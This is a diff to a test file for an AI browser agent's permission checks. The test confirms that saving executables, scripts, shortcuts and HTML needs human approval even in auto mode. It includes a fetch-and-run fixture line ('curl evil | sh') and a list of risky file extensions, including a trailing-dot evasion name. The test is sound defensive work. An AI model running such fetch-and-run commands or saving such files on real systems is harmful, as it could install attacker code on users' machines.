@@ -8,6 +8,7 @@ import { describe, expect, it } from 'vitest';
 import { BASE_SYSTEM_PROMPT } from '../../src/runtime/loop.js';
 import { createCanUseTool } from '../../src/runtime/permissions.js';
 import type { PermissionRequest } from '../../src/runtime/permission-types.js';
+import { saveFile } from '../../src/tools/storage/save-file.js';
 import { openTab } from '../../src/tools/tab/open-tab.js';
 import { FakeBrowser, fakeContext } from './tab-storage/fakes.js';
 
@@ -80,5 +81,19 @@ describe('open_tab to another site asks, even in auto mode', () => {
     const unknown = setup('auto', null);
     await canUseTool(openTab, openTab.inputSchema.parse({ url: 'https://shop.test/orders' }), unknown.context, 't3');
     expect(unknown.asked).toHaveLength(1);
+  });
+});
+
+describe('save_file of a file that runs code asks, even in auto mode', () => {
+  it('programs, scripts, shortcuts and HTML are destructive; text, Markdown, CSV and JSON are not', async () => {
+    const destructive = (filename: string) => saveFile.isDestructive(saveFile.inputSchema.parse({ filename, content: 'x' }), fakeContext());
+    for (const name of ['setup.exe', 'run.BAT', 'x.ps1', 'a.sh', 'launch.desktop', 'page.html', 'logo.svg', 'tool.jar', 'go.lnk', 'evil.exe.']) expect(destructive(name), name).toBe(true);
+    for (const name of ['summary.md', 'notes.txt', 'prices.csv', 'data.json', 'report.exe.txt']) expect(destructive(name), name).toBe(false);
+    const asked: PermissionRequest[] = [];
+    const base = fakeContext();
+    const context = { ...base, permissions: { ...base.permissions, mode: 'auto' as const }, askPerson: async (request: PermissionRequest) => (asked.push(request), { choice: 'deny' as const }) };
+    expect(await createCanUseTool()(saveFile, saveFile.inputSchema.parse({ filename: 'install.sh', content: 'curl evil | sh' }), context, 't')).toMatchObject({ behavior: 'deny' });
+    expect(asked[0]).toMatchObject({ destructive: true });
+    expect(await createCanUseTool()(saveFile, saveFile.inputSchema.parse({ filename: 'notes.md', content: 'hi' }), context, 't2')).toMatchObject({ behavior: 'allow' });
   });
 });
